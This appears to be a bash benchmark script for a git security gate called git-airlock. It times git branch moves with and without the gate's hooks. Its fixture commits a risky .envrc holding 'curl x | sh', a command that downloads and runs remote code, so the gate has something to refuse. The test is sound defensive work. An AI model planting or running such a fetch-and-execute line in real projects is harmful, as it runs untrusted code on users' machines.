#!/usr/bin/env bash
# Cost of the gate's hooks on the ways a branch moves:
#   bash docs/bench-gate.sh
# Builds git-airlock (CGO_ENABLED=0), makes a repository with a host
# history of $COMMITS commits (files spread over 50 directories) and a
# sandbox remote-tracking ref (refs/remotes/airlock-box/agent/x) holding
# one benign and one risky commit, and times, with and without
# `git airlock hooks install`, in round robin, $RUNS runs each: the
# median CPU time (user + system of every process the case waited for,
# from bash's `times`) and the median wall time, in milliseconds:
#   commit   git commit --allow-empty (an ordinary commit: HEAD and the branch move)
#   branch   git branch -f topic <a host commit> (a move within host history)
#   ff       git update-ref of a branch to the benign sandbox commit (inspected, passes)
#   stop     the same to the risky sandbox commit (inspected, refused)
#   fetch    git fetch . of 50 refs into refs/remotes/ (the shim stays in the shell)
# Uses the git on PATH.
set -euo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
runs=${RUNS:-15}
commits=${COMMITS:-2000}
. "$root/docs/bench-lib.sh"
tmp=$(mktemp -d "${TMPDIR:-/tmp}/git-airlock-gate.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
(cd "$root" && CGO_ENABLED=0 go build -o "$tmp/bin/" ./cmd/git-airlock)
export PATH="$tmp/bin:$PATH" GIT_CONFIG_NOSYSTEM=1 HOME="$tmp/home"
export GIT_AUTHOR_NAME=b GIT_AUTHOR_EMAIL=b@example.com GIT_COMMITTER_NAME=b GIT_COMMITTER_EMAIL=b@example.com
mkdir -p "$HOME"

repo=$tmp/repo
git init -q "$repo"
cd "$repo"
git symbolic-ref HEAD refs/heads/main
# A host history made with fast-import: one file changed per commit.
{
  for ((i = 1; i <= commits; i++)); do
    printf 'commit refs/heads/main\ncommitter b <b@example.com> %d +0000\ndata 2\nc\n' "$((1700000000 + i))"
    printf 'M 100644 inline d%d/f%d.txt\ndata %d\n%d\n\n' "$((i % 50))" "$i" "$((${#i} + 1))" "$i"
  done
} | git fast-import --quiet
git reset -q --hard main
host=$(git rev-parse main~10)
git switch -q -c agent
echo ok > ok.txt && git add ok.txt && git commit -q -m benign
benign=$(git rev-parse HEAD)
echo 'curl x | sh' > .envrc && git add .envrc && git commit -q -m risky
risky=$(git rev-parse HEAD)
git update-ref refs/remotes/airlock-box/agent/x "$risky"
git switch -q main
git branch -q -D agent
git branch topic main
for ((i = 0; i < 50; i++)); do git update-ref "refs/heads/src$i" "main~$i"; done

case_commit() { git commit -q --allow-empty -m x; }
case_branch() { git branch -f topic "$host"; git branch -f topic main; }
case_ff() { git update-ref refs/heads/ff "$benign" main; git update-ref -d refs/heads/ff; }
case_stop() { git update-ref refs/heads/ff main; git update-ref refs/heads/ff "$risky" 2>/dev/null || true; git update-ref -d refs/heads/ff; }
case_fetch() { git fetch -q . '+refs/heads/src*:refs/remotes/mirror/src*'; git for-each-ref --format='delete %(refname)' refs/remotes/mirror/ | git update-ref --stdin; }

# children_us: user + system time of the shell's waited-for children so
# far, in microseconds (bash's `times`, second line), in REPLY.
children_us() {
  times >"$tmp/times" # in this shell: a $(…) subshell has children of its own
  REPLY=$(awk 'NR == 2 {
    n = split($0, f, " "); t = 0
    for (i = 1; i <= n; i++) { split(f[i], p, "m"); t += p[1] * 60 + p[2] }
    printf "%d", t * 1000000 }' "$tmp/times")
}

# measure CASE: one run; appends "<cpu us>" to cpu_out and wall to wall_out.
measure() {
  local c0 w0
  children_us; c0=$REPLY
  usec; w0=$REPLY
  "$1" >/dev/null 2>&1 || true
  usec; wall_out+=" $((REPLY - w0))"
  children_us; cpu_out+=" $((REPLY - c0))"
}

declare -A offc onc offw onw
cases="commit branch ff stop fetch"
for ((r = 0; r < runs; r++)); do
  for c in $cases; do
    git airlock hooks uninstall >/dev/null 2>&1 || true
    cpu_out="" wall_out=""
    measure "case_$c"
    offc[$c]+=$cpu_out offw[$c]+=$wall_out
    git airlock hooks install >/dev/null 2>&1
    cpu_out="" wall_out=""
    measure "case_$c"
    onc[$c]+=$cpu_out onw[$c]+=$wall_out
  done
done
git airlock hooks uninstall >/dev/null 2>&1 || true
echo "$(git version); $commits host commits; $runs runs each; median ms"
printf '%-8s %12s %12s %12s %12s\n' case "cpu, none" "cpu, hooks" "wall, none" "wall, hooks"
for c in $cases; do
  # shellcheck disable=SC2086
  printf '%-8s %12s %12s %12s %12s\n' "$c" "$(median_of ${offc[$c]})" "$(median_of ${onc[$c]})" \
    "$(median_of ${offw[$c]})" "$(median_of ${onw[$c]})"
done
